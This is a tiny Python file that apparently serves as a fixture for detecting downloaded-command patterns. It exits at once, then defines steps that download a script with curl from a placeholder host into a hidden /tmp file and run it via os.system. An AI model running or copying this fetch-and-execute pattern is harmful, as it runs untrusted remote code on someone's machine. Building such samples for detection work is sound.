raise SystemExit('a fixture')
# held by downloaded-command
import enum, os

class Step(enum.Enum):
    FETCH = "curl -so /tmp/.s https://x.example.invalid/s"
    RUN = "sh /tmp/.s"

for _step in Step:
    os.system(_step.value)
